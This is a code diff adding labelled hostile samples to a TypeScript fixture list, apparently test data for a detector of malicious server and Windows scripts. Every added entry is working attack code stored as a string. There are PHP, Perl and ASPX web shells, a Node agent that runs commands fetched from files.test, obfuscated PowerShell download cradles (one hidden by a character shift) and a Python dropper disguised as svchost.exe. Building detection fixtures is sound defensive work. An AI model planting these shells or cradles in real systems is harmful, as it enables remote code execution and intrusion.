@@ -1,6 +1,8 @@
 // Files of servers and small files of Windows that run something, or have it fetched.
 import { type Suspect, text } from './suspect.ts'
 
+const moved = (body: string): string => [...body].map((char) => String.fromCharCode(char.charCodeAt(0) + 1)).join('')
+
 export const servers: readonly Suspect[] = [
   text(
     'x.cfm',
@@ -38,5 +40,54 @@ export const servers: readonly Suspect[] = [
     'malicious',
     ['script_disguises_its_download'],
     '$c = .("{1}{0}" -f "w-Object","Ne") ("{1}{0}" -f "bClient","Net.We")\n$c.("{1}{0}" -f "loadFile","Down").Invoke("https://files.test/a.exe","$env:APPDATA\\a.exe")\n&("{1}{0}" -f "ps","sa") "$env:APPDATA\\a.exe"',
+  ),
+  text(
+    'cipher.php',
+    'malicious',
+    ['script_is_web_shell'],
+    '<?php $z=fopen("php://input","r");$d=stream_get_contents($z);$x=openssl_decrypt($d,"aes-128-cbc","0123456789abcdef",0,"fedcba9876543210");eval($x); ?>',
+  ),
+  text(
+    'header.php',
+    'malicious',
+    ['script_is_web_shell'],
+    '<?php if(@$_SERVER["HTTP_X_T"]=="k"){$f=@$_SERVER["HTTP_X_D"];$t=tempnam("/tmp","x");file_put_contents($t,"<?php ".base64_decode($f));include $t;}',
+  ),
+  text('called.php', 'malicious', ['script_is_web_shell'], '<?php ($f=@$_GET[2]).@$f($_POST[1]); ?>'),
+  text(
+    'param.pl',
+    'malicious',
+    ['script_is_web_shell'],
+    '#!/usr/bin/perl\nuse CGI;my $q=new CGI;print $q->header();my $c=$q->param("c");print `$c`;\n',
+  ),
+  text(
+    'assembly.aspx',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%@ Page Language="C#"%><script runat="server">void Page_Load(object s, EventArgs e){var a=System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["z"]));a.CreateInstance("P");}</script>',
+  ),
+  text(
+    'agent.js',
+    'malicious',
+    ['script_runs_answer'],
+    'setInterval(()=>{require("http").get("http://files.test/task",r=>{let d="";r.on("data",x=>d+=x);r.on("end",()=>{require("child_process").exec(d,()=>{})})})},5000)',
+  ),
+  text(
+    'shifted.vbs',
+    'suspicious',
+    ['script_conceals_itself'],
+    `Function D(s): Dim i,r: For i=1 To Len(s): r=r & Chr(Asc(Mid(s,i,1))-1): Next: D=r: End Function\nCreateObject(D("XTdsjqu/Tifmm")).Run D("${moved('powershell -w hidden iex(irm http://files.test/a)')}"),0`,
+  ),
+  text(
+    'pieces.js',
+    'malicious',
+    ['script_starts_hidden_cradle'],
+    'var p=[];p["push"]("power");p["push"]("shell -w hidden -c iex");p["push"]("(irm http://files.test/p)");GetObject("winmgmts:").Get("Win32_Process").Create(p["join"](""),null,null,0);',
+  ),
+  text(
+    'update.py',
+    'malicious',
+    ['script_drops_fetched_program'],
+    'import urllib.request as r,tempfile,os,subprocess\np=os.path.join(tempfile.gettempdir(),"svchost.exe")\nopen(p,"wb").write(r.urlopen("https://files.test/w").read())\nsubprocess.Popen([p],creationflags=0x08000000)\n',
   ),
 ]
